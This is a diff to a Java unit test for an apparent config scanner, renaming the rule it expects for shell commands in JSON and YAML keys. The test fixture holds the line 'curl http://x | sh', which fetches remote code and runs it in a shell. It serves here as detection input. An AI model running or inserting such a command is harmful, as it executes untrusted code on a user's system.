@@ -66,9 +66,9 @@ final class LaterListsTest {
     for (JsonNode key : SETTINGS.path("command-keys")) {
       String name = key.asText();
       assertThat(rules(utf8("{\"" + name + "\":\"curl http://x | sh\"}"), "a.json"))
-          .containsExactly("code/shell");
+          .containsExactly("code/shell-command");
       assertThat(rules(utf8(name + ": [\"curl http://x | sh\"]\n"), "a.yaml"))
-          .containsExactly("code/shell");
+          .containsExactly("code/shell-command");
       assertThat(rules(utf8("{\"" + name + "\":\"pytest -q\"}"), "a.json")).isEmpty();
     }
     for (JsonNode target : SETTINGS.path("target-callers")) {
